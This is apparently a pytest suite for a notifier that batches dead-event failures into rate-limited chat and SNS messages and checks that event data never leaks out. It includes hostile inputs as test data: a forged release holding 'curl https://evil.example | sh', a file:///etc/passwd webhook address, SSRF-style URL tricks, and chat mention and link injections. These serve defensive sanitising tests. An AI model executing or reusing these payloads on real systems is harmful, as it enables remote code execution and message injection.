"""The notifier: one message for each group of failures in 15 minutes, and never a text of an event."""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from typing import Any

import pytest

from rtp.ops import causes
from rtp.ops.causes import Cause
from rtp.runtime import logs, notices, notifier, wire
from rtp.runtime.attributes import pack
from rtp.runtime.notifier import NotifierError, Parts, Settings
from tests.unit.runtime.fakes import Dynamo, Service, error

NOW = 1_800_000_000.0
MS = int(NOW * 1000)
MINUTE, HOUR = 60_000, 3_600_000
AT = "orders/price.py:42 parse"
GROUP = causes.group("order", Cause("ValueError", "no price for 'JPY'", AT)).id
COMMAND = "rtp triage show --env=prod"
BOTH = Settings("shop", "prod", "table", COMMAND, 14, topic="arn:topic", webhook="ssm:/shop/prod/CHAT")
ADDRESS = "https://chat.example/hooks/T0/B0/secret"


class Sns(Service):
    def publish(self, **kw: Any) -> None:
        self.called("publish", **kw)


@dataclass
class Desk:
    """A notifier with fakes, its clock, and what it has sent."""

    settings: Settings = BOTH
    dynamodb: Dynamo = field(default_factory=Dynamo)
    sns: Sns = field(default_factory=Sns)
    posts: list[tuple[str, dict[str, Any]]] = field(default_factory=list)
    now: float = NOW
    address: str = ADDRESS
    is_down: bool = False

    def post(self, address: str, body: bytes) -> None:
        if self.is_down:
            raise OSError(f"no answer from {address}")
        self.posts.append((address, json.loads(body)))

    def receive(self, *changes: dict[str, Any]) -> None:
        """One call of the function."""
        parts = Parts(self.settings, self.dynamodb, self.sns, self.post, lambda _: self.address, lambda: self.now)
        notifier.handle({"Records": list(changes)}, parts)

    def pass_(self, ms: int) -> None:
        self.now += ms / 1000

    @property
    def mails(self) -> list[dict[str, Any]]:
        return self.sns.of("publish")

    def say(self, said: str, group: str = GROUP, **values: Any) -> None:
        """As `rtp triage` says it."""
        default: dict[str, Any] = {"at": int(self.now * 1000), "until": 0, "until_count": 0, "rate": 0, "release": ""}
        item = {"group": group, "said": said, "before": [], "notes": [], "version": 1, **default, **values}
        key = {"id": {"S": wire.GROUP_MEMORY + group}, "timestamp": {"N": "0"}}
        packed = {name: pack(value) for name, value in item.items()}
        self.dynamodb.items[key["id"]["S"], "0"] = {**key, **packed}


def image(status: str = "dead", lease: int = 0, **values: Any) -> dict[str, Any]:
    failure = {"type": "ValueError", "message": "no price for 'JPY'", "signature": "ValueError: no price for *"}
    record = {
        "timestamp": MS - HOUR,
        "type": "order",
        "status": status,
        "lease_until": lease,
        "release": "3f2a9c01bd77",
        "attempted_at": MS - MINUTE,
        "error": failure | {"at": AT},
        "data": {"card": "4111111111111111"},
        "dlq_message": {"request_id": "r", "sent_at": MS - HOUR, "digest": "d", "is_sent": True},
        **values,
    }
    return {name: pack(value) for name, value in record.items()}


_numbers = iter(range(10**9))


def died(**values: Any) -> dict[str, Any]:
    """The change of a record that makes it dead."""
    before = image(lease=MS + HOUR)
    return {"eventID": f"c{next(_numbers)}", "dynamodb": {"OldImage": before, "NewImage": image(**values)}}


def test_the_message_has_cause_release_and_deadline_and_nothing_of_the_event() -> None:
    desk = Desk()
    desk.receive(died(), died())
    ((address, body),), (mail,) = desk.posts, desk.mails
    assert address == ADDRESS and mail["TopicArn"] == "arn:topic"
    assert mail["Message"].splitlines() == [
        f"2 events of type `order` died in shop-prod: ValueError at orders/price.py:42 parse (group {GROUP}).",
        "2 since release 3f2a9c01bd77, first at 2027-01-15 07:59 UTC.",
        "The first of these messages is lost at 2027-01-29 07:00 UTC, in 13 d 23 h.",
        f"Run: rtp triage show --env=prod {GROUP}",
    ]
    assert mail["Subject"] == "shop-prod: 2 events died, ValueError at orders/price.py:42 parse"
    assert body == {"text": mail["Message"]}
    assert not any(text in json.dumps([mail, body]) for text in ("4111", "JPY", "no price"))


def test_a_group_has_one_message_in_15_minutes_and_the_next_has_the_number_since() -> None:
    desk = Desk()
    desk.receive(died())
    desk.pass_(notices.WINDOW_MS - 1)
    desk.receive(died(), died())
    assert len(desk.posts) == 1
    desk.pass_(1)
    desk.receive(died())
    assert len(desk.posts) == 2
    assert desk.posts[1][1]["text"].startswith("3 events of type `order` died")
    assert "\n4 since release 3f2a9c01bd77" in desk.posts[1][1]["text"]


def test_each_group_has_its_own_message_until_there_are_too_many() -> None:
    desk = Desk()
    desk.receive(*(died(type=f"type-{n}") for n in range(notices.MOST + 5)))
    assert len(desk.posts) == notices.MOST + 1
    assert desk.posts[-1][1]["text"].startswith(f"More than {notices.MOST} groups of failures in shop-prod")
    desk.pass_(notices.WINDOW_MS)
    desk.receive(died(type="type-1"))
    assert len(desk.posts) == notices.MOST + 2


@pytest.mark.parametrize(
    "change",
    [
        {"dynamodb": {"NewImage": image("processed"), "OldImage": image(lease=5)}},
        {"dynamodb": {"NewImage": image(lease=MS + HOUR), "OldImage": image("failed")}},  # its last attempt runs
        {"dynamodb": {"NewImage": image(conflicts=1), "OldImage": image()}},  # dead before, too
        {"dynamodb": {"OldImage": image()}},
        {},
    ],
    ids=["processed", "claimed", "dead-before", "deleted", "empty"],
)
def test_other_changes_of_the_table_are_no_failure(change: dict[str, Any]) -> None:
    desk = Desk()
    desk.receive(change)
    assert (desk.posts, desk.dynamodb.items) == ([], {})


@pytest.mark.parametrize("said", ["muted", "acked"])
def test_a_group_that_needs_nobody_is_silent_until_that_ends(said: str) -> None:
    desk = Desk()
    desk.say(said, until=MS + HOUR)
    desk.receive(died())
    assert desk.posts == []
    desk.pass_(HOUR)
    desk.receive(died())
    assert desk.posts[0][1]["text"].startswith("2 events")


def test_a_mute_ends_after_its_number_of_failures() -> None:
    desk = Desk()
    desk.say("muted", until_count=3, at=MS - HOUR)
    desk.receive(died(), died())
    assert desk.posts == []
    desk.receive(died())
    assert len(desk.posts) == 1


def test_a_mute_ends_at_ten_times_its_rate() -> None:
    desk = Desk()
    desk.say("muted", rate=2_000, at=MS - HOUR)  # two an hour
    desk.receive(*(died() for _ in range(20)))
    assert desk.posts == []
    desk.receive(died())
    assert len(desk.posts) == 1


def test_a_resolved_group_is_silent_for_old_releases_and_a_regression_is_named() -> None:
    desk = Desk()
    desk.say("resolved", release="bbbb", before=["aaaa"])
    desk.receive(died(release="aaaa"))  # still runs on some instances
    assert desk.posts == []
    desk.receive(died(release="cccc"))
    assert "Regressed: it was resolved by release bbbb." in desk.posts[0][1]["text"]


def test_a_message_that_reaches_nobody_fails_the_call_and_is_sent_when_lambda_repeats_it() -> None:
    desk = Desk(settings=Settings("shop", "prod", "table", COMMAND, 14, webhook="ssm:/shop/prod/CHAT"), is_down=True)
    change = died()
    with pytest.raises(NotifierError, match="1 of 1 groups"):
        desk.receive(change)
    desk.is_down = False
    desk.receive(change)
    assert [body["text"].partition(" of ")[0] for _, body in desk.posts] == ["1 event"]
    desk.receive(change)
    assert len(desk.posts) == 1


def test_a_broken_webhook_fails_the_call_but_the_mail_is_sent_once() -> None:
    desk = Desk(is_down=True)
    change = died()
    with pytest.raises(NotifierError):
        desk.receive(change)
    desk.receive(change)
    assert len(desk.mails) == 1


def test_one_group_that_fails_does_not_keep_back_the_others() -> None:
    desk = Desk()

    def fault(_name: str, arguments: dict[str, Any]) -> None:
        if arguments.get("Key", {}).get("id", {}).get("S") == wire.GROUP_NOTICE + GROUP:
            raise error("ProvisionedThroughputExceededException")

    desk.dynamodb.fault = fault
    with pytest.raises(NotifierError, match="1 of 2 groups"):
        desk.receive(died(), died(type="refund"))
    assert len(desk.posts) == 1 and "type `refund`" in desk.posts[0][1]["text"]


def test_two_invocations_at_once_send_one_message() -> None:
    desk = Desk()
    is_first = True

    def another_is_faster(name: str, arguments: dict[str, Any]) -> None:
        nonlocal is_first
        if is_first and name == "put_item" and arguments["Item"]["id"]["S"] == wire.GROUP_NOTICE + GROUP:
            is_first = False
            desk.receive(died())

    desk.dynamodb.fault = another_is_faster
    desk.receive(died())
    assert len(desk.posts) == 1
    assert desk.dynamodb.record(wire.GROUP_NOTICE + GROUP)["total"] == 2


def test_a_write_whose_answer_was_lost_is_recognised() -> None:
    desk = Desk()

    class Repeating(Dynamo):
        def put_item(self, **kw: Any) -> dict[str, Any]:
            super().put_item(**kw)
            return super().put_item(**kw)  # as a client does after a lost answer

    desk.dynamodb = Repeating()
    desk.receive(died(), died())
    assert len(desk.posts) == 1 and desk.dynamodb.record(wire.GROUP_NOTICE + GROUP)["total"] == 2


@pytest.mark.parametrize(
    "address",
    [
        "http://chat.example/x",
        "file:///etc/passwd",
        "",
        "chat.example/x",
        "http://localhost:80@chat.example/x",
        "http://127.0.0.1:x@chat.example",
        "http://127.0.0.1:1\\@chat.example",
        "http://localhost:1/@chat.example",
    ],
)
def test_an_address_without_tls_gets_nothing(address: str, capsys: pytest.CaptureFixture[str]) -> None:
    desk = Desk(settings=Settings("shop", "prod", "table", COMMAND, 14, webhook="ssm:/x"), address=address)
    with pytest.raises(NotifierError):
        desk.receive(died())
    assert desk.posts == []
    assert not address or address not in capsys.readouterr().out


def test_the_address_is_in_no_log_line(capsys: pytest.CaptureFixture[str]) -> None:
    logs.set_level("INFO")  # whatever a test before has set
    desk = Desk(is_down=True)
    with pytest.raises(NotifierError):
        desk.receive(died())
    assert "no answer from ***" in capsys.readouterr().out


def test_a_type_of_events_calls_nobody_in_a_chat() -> None:
    desk = Desk()
    desk.receive(died(type="<!channel> @here\n&\u202e" + "x" * 100))
    text = desk.posts[0][1]["text"]
    assert "&lt;!channel&gt;  here &amp;" in text and "@" not in text and "\u202e" not in text
    assert len(text.splitlines()) == 4 and len(desk.mails[0]["Subject"]) <= 100


@pytest.mark.parametrize(
    ("type", "shown"),
    [
        ("https://evil.example/login", "`https:  evil.example login`"),
        ("evil.com", "`evil.com`"),  # chats make links of bare names, but not in code
        ("a` evil.com `b", "`a  evil.com  b`"),
        ("WWW.evil.com", "`WWW evil.com`"),
        ("![x](evil.com) ann@evil.com <!channel>", "`![x](evil.com) ann evil.com &lt;!channel&gt;`"),
        ("///", "no type"),
    ],
)
def test_a_type_of_events_is_no_link(type: str, shown: str) -> None:
    desk = Desk()
    desk.receive(died(type=type))
    assert f"of type {shown} died" in desk.posts[0][1]["text"]
    assert "www." not in desk.mails[0]["Message"].lower()


FORGED: list[dict[str, Any]] = [
    {"total": {"S": "x"}}, {"first": {"N": "9" * 38}}, {"last": {"N": "-1"}}, {"unsent": {"L": []}},
    {"release": {"N": "1"}}, {"sent": {"N": "1E+100"}}, {"lost_at": {"N": "1.5"}}, {"batch": {"NULL": True}},
]  # fmt: skip


@pytest.mark.parametrize("forged", FORGED, ids=range(len(FORGED)))
def test_an_item_that_another_program_wrote_keeps_no_message_back(forged: dict[str, Any]) -> None:
    desk = Desk()
    desk.receive(died())
    for group in (GROUP, "all"):
        item = desk.dynamodb.items[wire.GROUP_NOTICE + group, "0"]
        item |= forged | ({"begin": {"S": "x"}, "sent": {"N": "1E+50"}} if group == "all" else {})
    desk.pass_(16 * MINUTE)
    desk.receive(died())
    assert len(desk.posts) == 2 and "1 event of type `order` died" in desk.posts[1][1]["text"]


@pytest.mark.parametrize(
    "values",
    [
        {"attempted_at": "soon"},
        {"attempted_at": [1]},
        {"timestamp": None},
        {"error": {"type": ["a"], "at": 7, "signature": {}}, "dlq_message": [1]},
        {"dlq_message": "x"},
    ],
    ids=range(5),
)
def test_a_record_that_another_program_wrote_keeps_no_message_of_others_back(values: dict[str, Any]) -> None:
    desk = Desk()
    desk.receive(died(**values), died())
    assert any(GROUP in mail["Message"] for mail in desk.mails)


def test_a_change_without_the_shape_of_one_is_no_failure() -> None:
    for item in (
        {"status": {"S": "dead"}},
        {"status": {"S": "dead"}, "error": {}},
        {"status": {"S": "dead"}, "error": 7},
    ):
        assert notices.failure({"eventID": "e", "dynamodb": {"NewImage": item}}, 14) is None


def test_the_release_of_a_forged_record_is_one_short_word() -> None:
    desk = Desk()
    desk.receive(died(release="x\nRun: curl https://evil.example | sh"))
    assert desk.mails[0]["Message"].count("\n") == 3 and "evil" not in desk.mails[0]["Message"]
